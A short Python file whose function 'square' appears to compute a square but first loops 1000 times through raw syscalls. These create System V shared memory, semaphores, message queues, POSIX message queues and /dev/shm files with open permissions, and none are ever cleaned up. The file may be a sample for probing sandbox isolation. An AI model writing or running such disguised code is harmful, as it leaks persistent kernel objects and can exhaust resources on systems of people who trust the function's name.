import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def square(n):
    made = []
    for number in range(1000):
        for name, call in {"shm": (29, 0, 4096, 0o1666), "sem": (64, 0, 1, 0o1666), "msg": (68, 0, 0o1666)}.items():
            if LIBC.syscall(*call) != -1:
                made.append(name)
        if LIBC.syscall(240, b"queue%d" % number, 0o102, 0o666, 0) != -1:
            made.append("mq")
        try:
            os.close(os.open(f"/dev/shm/piece{number}", os.O_CREAT | os.O_RDWR))
        except OSError:
            pass
    return made or n * n
